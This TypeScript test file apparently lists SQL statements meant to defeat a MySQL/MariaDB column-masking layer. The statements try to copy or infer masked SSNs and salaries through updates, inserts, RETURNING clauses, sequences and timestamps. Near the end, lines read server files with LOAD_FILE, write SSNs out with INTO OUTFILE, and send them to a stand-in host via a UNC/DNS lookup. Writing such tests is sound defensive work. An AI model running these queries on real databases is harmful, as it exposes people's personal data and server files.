/** Statements that move masked values to where they are not masked, or tell of them by what they change. */
import type { AttackList } from '../attack-list.ts'

export const attacks: AttackList = [
  // One of several values, which one is chosen by what is masked, or is not known to fit.
  [
    "UPDATE people SET note = CASE WHEN salary > 42000000 THEN 'a' ELSE note END",
    'SELECT id, note FROM people ORDER BY id',
  ],
  ["UPDATE people SET note = IF(ssn IS NULL, 'a', ssn)", 'SELECT id, note FROM people ORDER BY id'],
  ['UPDATE people SET note = COALESCE(ssn, note)', 'SELECT id, note FROM people ORDER BY id'],
  ["UPDATE people SET email = CASE WHEN salary > 42000000 THEN 'a' ELSE email END"],
  [
    "UPDATE people SET email = CASE WHEN salary > 42000000 THEN 'taken' WHEN id = 2 THEN 'taken' ELSE email END",
  ],
  [
    "UPDATE people SET email = CASE WHEN id = 1 THEN email ELSE CONCAT(id, 'x') END",
    'SELECT COUNT(*) FROM people',
  ],
  ['UPDATE people SET email = CASE WHEN id = 1 THEN phone ELSE email END'],
  ['UPDATE people SET email = CASE WHEN id = 1 THEN ssn ELSE email END'],
  ['UPDATE people SET salary = CASE WHEN id = 1 THEN big ELSE salary END'],
  ['UPDATE people SET salary = CASE WHEN salary > 42000000 THEN 99999999999999 ELSE salary END'],
  ['UPDATE people SET salary = IF(salary > 42000000, 99999999999999, salary)'],
  ['UPDATE people SET salary = COALESCE(salary, 99999999999999)'],
  [
    'UPDATE people SET salary = COALESCE(NULLIF(salary > 42000000, 0) + 76, salary)',
    'SELECT COUNT(*) FROM people WHERE salary = 77',
  ],
  [
    'UPDATE people SET salary = GREATEST(salary, 42000000)',
    'SELECT COUNT(*) FROM people WHERE salary = 42000000',
  ],
  ['UPDATE people SET salary = CASE WHEN id = 1 THEN salary ELSE salary + 1 END'],
  [
    'UPDATE people SET manager_id = CASE WHEN salary > 42000000 THEN 1 ELSE 2 END',
    'SELECT id, manager_id FROM people ORDER BY id',
  ],
  [
    'UPDATE people SET salary = CASE id WHEN (SELECT MAX(x.id) FROM notes x WHERE x.id < people.salary) THEN 1 ELSE salary END',
  ],
  [
    'INSERT INTO people (id, salary) VALUES (1, 77) ON DUPLICATE KEY UPDATE salary = GREATEST(VALUES(salary), salary)',
    'SELECT COUNT(*) FROM people WHERE salary = 77',
  ],
  [
    'INSERT INTO people (id, salary) VALUES (1, 5) ON DUPLICATE KEY UPDATE note = COALESCE(salary, VALUES(salary))',
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO people (id, salary) VALUES (1, 5) ON DUPLICATE KEY UPDATE note = IF(salary > 42000000, 'a', note)",
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO notes (id, body) SELECT id + 800, COALESCE(ssn, 'x') FROM people",
    'SELECT body FROM notes',
  ],
  [
    "INSERT INTO notes (id, body) SELECT id + 800, CASE WHEN id = 1 THEN 'x' ELSE ssn END FROM people",
    'SELECT body FROM notes',
  ],
  [
    "CREATE TEMPORARY TABLE w AS SELECT id, CASE WHEN id = 1 THEN 'x' ELSE ssn END AS x FROM people",
    'SELECT * FROM w',
  ],
  ["SET @w = (SELECT COALESCE(ssn, 'x') FROM people WHERE id = 1)", 'SELECT @w'],
  // Read by the order of an index that is named.
  'SELECT id FROM people FORCE INDEX (people_salary)',
  'SELECT id FROM people USE INDEX (`PRIMARY`, people_salary) WHERE salary IS NOT NULL',

  ['INSERT INTO notes (body) SELECT ssn FROM people', 'SELECT body FROM notes'],
  ['INSERT INTO notes (body) SELECT CONCAT(ssn) FROM people', 'SELECT body FROM notes'],
  [
    'INSERT INTO notes (body) VALUES ((SELECT ssn FROM people WHERE id = 1))',
    'SELECT body FROM notes',
  ],
  ['INSERT INTO notes SET body = (SELECT ssn FROM people WHERE id = 1)', 'SELECT body FROM notes'],
  ['INSERT INTO notes (body) TABLE people', 'SELECT body FROM notes'],
  ['INSERT INTO dept TABLE accounts'],
  [
    'INSERT INTO notes (id, body) SELECT id + 400, ssn FROM people ON DUPLICATE KEY UPDATE body = VALUES(body)',
    'SELECT body FROM notes',
  ],
  [
    "INSERT INTO notes (id, body) VALUES (1, 'x') ON DUPLICATE KEY UPDATE body = (SELECT ssn FROM people WHERE id = 1)",
    'SELECT body FROM notes',
  ],
  [
    "INSERT INTO people (id, ssn) VALUES (1, 'x') ON DUPLICATE KEY UPDATE note = ssn",
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO people (id, ssn) VALUES (1, 'x') ON DUPLICATE KEY UPDATE note = people.ssn",
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO people (id, ssn) VALUES (1, 'x') AS n ON DUPLICATE KEY UPDATE note = CONCAT(people.ssn, n.ssn)",
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO people (id, ssn) VALUES (1, 'x') AS n (a, b) ON DUPLICATE KEY UPDATE note = IF(people.ssn > b, 1, 2)",
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO people (id, note) VALUES (1, 'x') ON DUPLICATE KEY UPDATE city = IF(salary > 5, 'y', 'n')",
    'SELECT city FROM people',
  ],
  [
    'INSERT INTO people (id, ssn) SELECT 1, ssn FROM accounts LIMIT 1 ON DUPLICATE KEY UPDATE note = VALUES(ssn)',
    'SELECT note FROM people',
  ],
  [
    "INSERT INTO notes (id, body) SELECT 1, 'x' FROM people p WHERE p.id = 1 ON DUPLICATE KEY UPDATE body = p.ssn",
    'SELECT body FROM notes',
  ],
  [
    "INSERT INTO notes (id, body) SELECT p.id, p.ssn FROM people p ON DUPLICATE KEY UPDATE body = 'x'",
    'SELECT body FROM notes',
  ],
  ['REPLACE INTO notes (id, body) SELECT id, ssn FROM people', 'SELECT body FROM notes'],
  [
    'REPLACE notes SET id = 1, body = (SELECT ssn FROM people WHERE id = 1)',
    'SELECT body FROM notes',
  ],
  ['REPLACE INTO people (id, note) SELECT id, ssn FROM people WHERE id = 1'],
  ['UPDATE people SET note = ssn', 'SELECT note FROM people'],
  [
    'UPDATE people SET note = CONCAT(ssn), city = email WHERE id = 1',
    'SELECT note, city FROM people',
  ],
  ["UPDATE people SET note = IF(ssn > 'm', 1, 2)", 'SELECT note FROM people'],
  ['UPDATE people SET city = salary > 5', 'SELECT city FROM people'],
  ['UPDATE people SET ssn = note, note = ssn', 'SELECT note FROM people'],
  ['UPDATE people SET ssn = city, phone = ssn, note = phone', 'SELECT note FROM people'],
  ['UPDATE people SET phone = ssn', 'SELECT phone FROM people'],
  ['UPDATE notes n JOIN people p ON p.id = n.id SET n.body = p.ssn', 'SELECT body FROM notes'],
  [
    'UPDATE notes, people SET notes.body = people.ssn WHERE notes.id = people.id',
    'SELECT body FROM notes',
  ],
  [
    'UPDATE notes n, (SELECT id, ssn FROM people) p SET n.body = p.ssn WHERE n.id = p.id',
    'SELECT body FROM notes',
  ],
  [
    'WITH p AS (SELECT id, ssn FROM people) UPDATE notes n JOIN p ON p.id = n.id SET n.body = p.ssn',
    'SELECT body FROM notes',
  ],
  [
    'UPDATE people p LEFT JOIN dept d ON d.id = p.dept_id SET d.name = p.ssn',
    'SELECT name FROM dept',
  ],
  ['UPDATE notes SET body = (SELECT GROUP_CONCAT(ssn) FROM people)', 'SELECT body FROM notes'],
  ['UPDATE notes SET n = (SELECT salary FROM people WHERE id = 1)', 'SELECT n FROM notes'],
  ['UPDATE notes SET n = n + (SELECT salary FROM people WHERE id = 1)', 'SELECT n FROM notes'],
  ['UPDATE people_view SET city = x', 'SELECT city FROM people'],
  ['UPDATE people_merge SET salary = LENGTH(ssn)', 'SELECT salary FROM people_merge'],
  ["UPDATE people SET city = 'x' WHERE ssn > 'm'", 'SELECT ROW_COUNT()'],
  ["UPDATE people SET city = 'x' WHERE ssn LIKE 'g%'"],
  ["UPDATE people SET city = 'x' ORDER BY ssn LIMIT 1", 'SELECT id, city FROM people ORDER BY id'],
  [
    "UPDATE people SET city = 'x' ORDER BY salary DESC LIMIT 1",
    'SELECT id FROM people WHERE city = "x"',
  ],
  ["UPDATE notes n JOIN people p ON p.ssn > 'm' AND p.id = n.id SET n.body = 'x'"],
  ["UPDATE people SET city = CASE WHEN salary > 5 THEN 'x' ELSE city END"],
  ['UPDATE people SET salary = salary', 'SELECT ROW_COUNT()'],
  ['UPDATE people SET ssn = UPPER(ssn) WHERE id = 1'],
  ['UPDATE people SET salary = GREATEST(salary, 1000) WHERE id = 1'],
  ['UPDATE people SET salary = LEAST(salary, 1000) WHERE id = 1', 'SELECT ROW_COUNT()'],
  ['UPDATE people SET salary = salary DIV 1000 * 1000 WHERE id = 1'],
  ["UPDATE people SET ssn = IF(ssn > 'm', ssn, 'q') WHERE id = 1"],
  ["UPDATE people SET ssn = REPLACE(ssn, 'g', 'g') WHERE id = 1"],
  ["UPDATE people SET ssn = REPLACE(ssn, 'g', 'h') WHERE id = 1"],
  [
    "UPDATE people SET ssn = CONCAT(LEFT(ssn, 1), 'q') WHERE id = 1",
    "SELECT id FROM people WHERE ssn = 'gq'",
  ],
  ['UPDATE people SET ssn = LEFT(ssn, 1) WHERE id = 1', "SELECT id FROM people WHERE ssn = 'g'"],
  ['UPDATE people SET ssn = email WHERE id = 1', 'SELECT id FROM people WHERE ssn = email'],
  [
    'UPDATE people SET salary = LENGTH(ssn) WHERE id = 1',
    'SELECT id FROM people WHERE salary = 19',
  ],
  [
    'UPDATE people SET salary = ASCII(ssn) WHERE id = 1',
    'SELECT id FROM people WHERE salary = 104',
  ],
  ["UPDATE people SET phone = DEFAULT(phone), city = DEFAULT(city) WHERE ssn > 'm'"],
  [
    'UPDATE people p JOIN people q ON q.id = 1 SET p.phone = q.ssn WHERE p.id = 2',
    'SELECT phone FROM people WHERE id = 2',
  ],
  [
    "UPDATE IGNORE people p JOIN people q ON q.id = 2 SET p.email = CONCAT(LEFT(q.email, 1), 'x') WHERE p.id IN (3, 4)",
  ],
  [
    'DELETE FROM notes WHERE body < (SELECT ssn FROM people WHERE id = 1)',
    'SELECT COUNT(*) FROM notes',
  ],
  ["DELETE FROM accounts WHERE owner_ssn > 'm'"],
  ["DELETE FROM people_hidden WHERE ssn > 'm'"],
  ['DELETE FROM people_hidden ORDER BY ssn LIMIT 1', 'SELECT id FROM people_hidden'],
  ['DELETE FROM accounts ORDER BY owner_ssn DESC LIMIT 1', 'SELECT id FROM accounts'],
  ["DELETE n FROM notes n JOIN people p ON p.id = n.id WHERE p.ssn > 'm'"],
  ['DELETE FROM n USING notes n, people p WHERE p.id = n.id AND p.salary > 5'],
  ["DELETE FROM accounts WHERE id = 1 AND owner_ssn < 'm' RETURNING id"],
  ['DELETE FROM accounts RETURNING owner_ssn'],
  ['DELETE FROM accounts RETURNING *, CONCAT(owner_ssn)'],
  [
    "INSERT INTO accounts (id, owner_ssn) SELECT 90 + id, CONCAT(ssn, 'x') FROM people WHERE id = 1 RETURNING *",
  ],
  [
    "INSERT INTO people (id, ssn) VALUES (950, 'x') RETURNING (SELECT ssn FROM people WHERE id = 1)",
  ],
  [
    "INSERT INTO people (id, city) VALUES (1, 'x') ON DUPLICATE KEY UPDATE city = 'x' RETURNING ssn, email",
  ],
  ['REPLACE INTO accounts (id) VALUES (1) RETURNING owner_ssn'],
  ['INSERT INTO notes (id) SELECT id + 400 FROM people WHERE ssn > "m"', 'SELECT LAST_INSERT_ID()'],
  [
    'INSERT INTO notes (id) SELECT salary + 1000 FROM people WHERE id = 1',
    'SELECT MAX(id) FROM notes',
  ],
  [
    'INSERT INTO notes (id) SELECT LENGTH(ssn) * 100 FROM people WHERE id = 1',
    'SELECT LAST_INSERT_ID()',
  ],
  ['SELECT LAST_INSERT_ID(salary) FROM people WHERE id = 1', 'SELECT LAST_INSERT_ID()'],
  [
    'UPDATE notes SET id = LAST_INSERT_ID((SELECT salary FROM people WHERE id = 1)) WHERE id = 1',
    'SELECT LAST_INSERT_ID()',
  ],
  ['INSERT INTO audit_trail (id) SELECT LENGTH(ssn) + 100 FROM people WHERE id = 1'],
  [
    "INSERT INTO people_generated (id, ssn) VALUES (50, 'x')",
    'SELECT shout FROM people_generated WHERE id = 50',
  ],
  [
    'INSERT INTO people_generated (id, ssn) SELECT id + 50, ssn FROM people',
    'SELECT shout FROM people_generated',
  ],
  [
    'INSERT INTO people_default (id, ssn) SELECT id + 50, ssn FROM people',
    'SELECT copy FROM people_default',
  ],
  [
    "INSERT INTO people_default (id, ssn) SELECT id + 50, 'x' FROM people",
    'SELECT copy FROM people_default',
  ],
  {
    steps: [
      'INSERT INTO notes (body) SELECT ssn FROM people_versioned FOR SYSTEM_TIME ALL',
      'SELECT body FROM notes',
    ],
    only: 'mariadb',
  },
  {
    steps: [
      'SELECT NEXT VALUE FOR counter FROM people WHERE salary > 5',
      'SELECT PREVIOUS VALUE FOR counter',
    ],
    only: 'mariadb',
  },
  {
    steps: [
      "SELECT IF(ssn > 'm', NEXTVAL(counter), 0) FROM people WHERE id = 1",
      'SELECT LASTVAL(counter)',
    ],
    only: 'mariadb',
  },
  {
    steps: [
      'SELECT SETVAL(counter, (SELECT salary FROM people WHERE id = 1))',
      'SELECT NEXTVAL(counter)',
    ],
    only: 'mariadb',
  },
  {
    steps: [
      'DELETE HISTORY FROM people_versioned BEFORE SYSTEM_TIME (SELECT seen FROM people WHERE id = 1)',
    ],
    only: 'mariadb',
  },
  ["UPDATE people SET ssn = '[redacted]' WHERE id = 1"],
  ["INSERT INTO people (id, ssn) VALUES (1, 'q') ON DUPLICATE KEY UPDATE ssn = '[redacted]'"],
  ["REPLACE INTO accounts VALUES (1, '[redacted]', NULL)"],
  ['UPDATE people SET ssn = NULL, email = NULL WHERE id = 1'],
  [
    'LOAD DATA INFILE "/etc/hostname" INTO TABLE notes (body) SET body = (SELECT ssn FROM people WHERE id = 1)',
  ],
  ['LOAD DATA LOCAL INFILE "/etc/hostname" INTO TABLE notes (@x) SET body = @x'],
  ['LOAD XML INFILE "/etc/hostname" INTO TABLE notes'],
  ['SELECT ssn INTO OUTFILE "/tmp/x_{db}" FROM people'],
  ['SELECT ssn FROM people INTO OUTFILE "/tmp/y_{db}" FIELDS TERMINATED BY ","'],
  ['SELECT ssn INTO DUMPFILE "/tmp/z_{db}" FROM people WHERE id = 1'],
  ['SELECT LOAD_FILE("/etc/hostname")'],
  ["SELECT LOAD_FILE(CONCAT('/tmp/', ssn)) FROM people WHERE id = 1"],
  ["SELECT LOAD_FILE(CONCAT('//', ssn, '.example.org/x')) FROM people WHERE id = 1"],
]

/** Rows that are other ones now had other values: an answer to a guess, for whom none may be asked. */
export const renewed: AttackList = [
  {
    steps: [
      'ALTER TABLE people_touched ADD COLUMN again DATETIME ON UPDATE CURRENT_TIMESTAMP; UPDATE people_touched SET active = 1, touched = touched',
      'SELECT id, again IS NULL FROM people_touched ORDER BY id',
      'ALTER TABLE people_touched DROP COLUMN again',
    ],
    undo: 'UPDATE people_touched SET active = active',
  },
  [
    'UPDATE people_touched SET active = NOT 0 WHERE id = 1',
    'SELECT id, touched IS NULL FROM people_touched ORDER BY id',
  ],
  [
    'UPDATE people_touched SET active = 1',
    'SELECT id, touched IS NULL FROM people_touched ORDER BY id',
  ],
  [
    'UPDATE people_touched SET active = 1, note = NULL',
    'SELECT COUNT(touched) FROM people_touched',
  ],
  ['UPDATE touched_view SET a = 1', 'SELECT id, t IS NULL FROM touched_view ORDER BY id'],
  [
    'UPDATE people_touched SET active = CASE WHEN id < 3 THEN 1 ELSE active END',
    'SELECT COUNT(touched) FROM people_touched',
  ],
  [
    'UPDATE people_touched SET active = COALESCE(active, 1)',
    'SELECT COUNT(touched) FROM people_touched',
  ],
  [
    'UPDATE people_touched t JOIN dept d ON d.id = 1 SET t.active = 1',
    'SELECT COUNT(touched) FROM people_touched',
  ],
  [
    'INSERT INTO people_touched (id, active) VALUES (1, 1), (2, 1) ON DUPLICATE KEY UPDATE active = VALUES(active)',
    'SELECT COUNT(touched) FROM people_touched',
  ],
]
